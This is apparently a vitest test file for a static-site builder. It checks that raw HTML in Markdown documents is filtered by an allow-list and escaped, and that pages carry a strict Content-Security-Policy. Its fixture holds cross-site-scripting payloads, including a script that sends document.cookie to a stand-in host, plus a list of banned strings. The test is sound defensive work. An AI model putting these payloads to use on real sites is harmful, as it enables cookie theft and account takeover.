/**
 * Nothing gets in: raw HTML in a document passes only through the allow-list (warnings at
 * their positions), responses show raw HTML as text, every published page carries a
 * Content-Security-Policy that forbids scripts and remote loads, and no output names a path
 * of the build machine.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { contentSecurityPolicy } from '../scripts/model/security-policy.ts';
import { document, runCli, writeTree } from './helpers/workspace.ts';

const hostileBody = `## Inleiding

Gewone tekst.

<script>fetch('https://kwaadwillend.example/?c=' + document.cookie)</script>

<img src="grafiek.png" alt="Grafiek" onerror="alert(1)">

Een <a href="javascript:alert(2)">link</a> en <span style="display:none">verborgen tekst</span>.

<iframe src="https://kwaadwillend.example/"></iframe>
`;

const response = 'Wij reageren met <script>alert(3)</script> en <b onclick="x()">opmaak</b> als tekst.\n';

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const file = path.join(dir, name);
    return statSync(file).isDirectory() ? filesUnder(file) : [file];
  });
}

describe('hostile HTML in content', () => {
  const root = writeTree({
    'content/doc/index.md': document(hostileBody, 'responses:\n  - file: reactie.md\n    from: Platform B.V.\n    title: Reactie\n    received: 2026-01-20\n'),
    'content/doc/reactie.md': response,
    'content/doc/grafiek.png': Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex').toString('latin1'),
  });
  const result = runCli(['build', '--no-check'], root);

  it('builds, warning at each removed element and attribute', () => {
    expect(result.code, result.stderr).toBe(0);
    const warnings = result.stderr
      .split('\n')
      .filter((line) => line.includes('unsafe-html'))
      .map((line) => line.trim().replace(/\s+/g, ' '));
    expect(warnings).toEqual([
      '18:1-18:77 warning Unexpected `<script>` in raw HTML, expected only elements of the allow-list (removed with its content) unsafe-html kia-html',
      '20:1-20:57 warning Unexpected `<img>` in raw HTML, expected Markdown image syntax `![beschrijving](bestand)` so the image is checked and copied (removed) unsafe-html kia-html',
      '22:5-22:43 warning Unexpected URL `javascript:alert(2)` in `href` on `<a>` in raw HTML, expected http(s), mailto or a relative link (attribute removed) unsafe-html kia-html',
      '22:47-22:96 warning Unexpected attribute `style` on `<span>` in raw HTML, expected only attributes of the allow-list (removed) unsafe-html kia-html',
      '24:1-24:54 warning Unexpected `<iframe>` in raw HTML, expected only elements of the allow-list (removed with its content) unsafe-html kia-html',
    ]);
  });

  it('publishes none of it, and shows the response’s HTML as text', () => {
    const html = readFileSync(path.join(root, 'dist/doc/index.html'), 'utf8');
    for (const banned of ['<script', 'onerror', 'onclick=', 'javascript:', 'display:none', '<iframe', 'kwaadwillend']) {
      expect(html.replace(/&#x3C;script>alert\(3\)&#x3C;\/script>|&#x3C;b onclick="x\(\)">/g, ''), banned).not.toContain(banned);
    }
    expect(html).toContain('verborgen tekst');
    expect(html).toMatch(/Wij reageren met &#x3C;script>alert\(3\)&#x3C;\/script> en &#x3C;b onclick="x\(\)">opmaak&#x3C;\/b> als tekst\./);
  });

  it('puts the Content-Security-Policy and no-referrer policy on every published page', () => {
    const pages = filesUnder(path.join(root, 'dist')).filter((file) => file.endsWith('.html'));
    expect(pages.length).toBeGreaterThanOrEqual(2);
    for (const page of pages) {
      const text = readFileSync(page, 'utf8');
      const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(text)?.[1]?.replaceAll('&#x27;', "'");
      expect(policy, page).toBe(contentSecurityPolicy);
      expect(text, page).toContain('<meta name="referrer" content="no-referrer">');
      expect(text, page).not.toContain('<script');
    }
    expect(contentSecurityPolicy).toContain("default-src 'none'");
  });

  it('names no path of the build machine in any output', () => {
    for (const file of filesUnder(path.join(root, 'dist'))) {
      const bytes = readFileSync(file).toString('latin1');
      expect(bytes.includes(root), file).toBe(false);
      expect(bytes.includes('/tmp/'), file).toBe(false);
    }
  });
});
